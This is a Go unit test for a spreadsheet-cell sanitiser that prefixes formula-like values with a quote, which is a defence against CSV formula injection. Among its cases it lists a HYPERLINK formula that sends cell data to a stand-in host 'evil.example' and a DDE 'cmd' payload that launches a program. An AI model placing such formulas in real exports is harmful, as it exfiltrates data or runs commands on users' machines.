package report

import "testing"

// TestSafeCell: cells a spreadsheet would run as formulas get a leading quote; numbers
// and ordinary text stay as they are.
func TestSafeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"t.me", "t.me"},
		{"Telkomsel", "Telkomsel"},
		{"2017-07-14T00:00:00Z", "2017-07-14T00:00:00Z"},
		{"0", "0"},
		{"-5", "-5"},
		{"-0.25", "-0.25"},
		{"39660.0008", "39660.0008"},
		{`=HYPERLINK("http://evil.example/?"&A1)`, `'=HYPERLINK("http://evil.example/?"&A1)`},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1+2", "'-1+2"},
		{"-", "'-"},
		{"-5.", "'-5."},
		{"-.5", "'-.5"},
		{"-5e3", "'-5e3"},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"\x00=1", "'\x00=1"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
	} {
		if got := SafeCell(tc.in); got != tc.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
